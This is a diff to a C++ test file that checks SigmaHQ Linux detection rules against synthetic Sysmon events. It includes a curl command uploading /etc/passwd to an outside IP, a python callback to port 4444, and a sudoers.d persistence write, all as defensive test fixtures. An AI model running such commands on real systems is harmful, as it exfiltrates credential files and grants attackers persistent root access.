@@ -195,6 +195,35 @@ TEST(ParseSysmonTest, SigmaHqLinuxCategoryRulesFireOnTheirEvents) {
       {"00b90cc1-17ec-402c-96ad-3a8117d7a582",  // Suspicious Curl File Upload
        SysmonLine(1, ProcessCreate("/usr/bin/curl",
                                    "curl -F &quot;f=@/etc/passwd&quot; https://203.0.113.9/u"))},
+      {"dbfc7c98-04ab-4ab7-aa94-c74d22aa7376",  // Potentially Suspicious Malware Callback
+                                                // Communication
+       SysmonLine(3, {{"RuleName", "-"},
+                      {"UtcTime", "2025-11-26 03:50:05.200"},
+                      {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
+                      {"ProcessId", "24817"},
+                      {"Image", "/usr/bin/python3.11"},
+                      {"User", "www-data"},
+                      {"Protocol", "tcp"},
+                      {"Initiated", "true"},
+                      {"SourceIsIpv6", "false"},
+                      {"SourceIp", "192.0.2.10"},
+                      {"SourceHostname", "-"},
+                      {"SourcePort", "50212"},
+                      {"SourcePortName", "-"},
+                      {"DestinationIsIpv6", "false"},
+                      {"DestinationIp", "203.0.113.5"},
+                      {"DestinationHostname", "-"},
+                      {"DestinationPort", "4444"},
+                      {"DestinationPortName", "-"}})},
+      {"ddb26b76-4447-4807-871f-1b035b2bfa5d",  // Persistence Via Sudoers.d Files
+       SysmonLine(11, {{"RuleName", "-"},
+                       {"UtcTime", "2025-11-26 03:50:05.300"},
+                       {"ProcessGuid", "{4f1a5b3c-9f2d-6745-a8c1-7e1f2d000000}"},
+                       {"ProcessId", "24830"},
+                       {"Image", "/usr/bin/tee"},
+                       {"TargetFilename", "/etc/sudoers.d/90-www"},
+                       {"CreationUtcTime", "2025-11-26 03:50:05.300"},
+                       {"User", "root"}})},
   };
   for (const auto& [id, line] : cases) {
     SCOPED_TRACE(line);
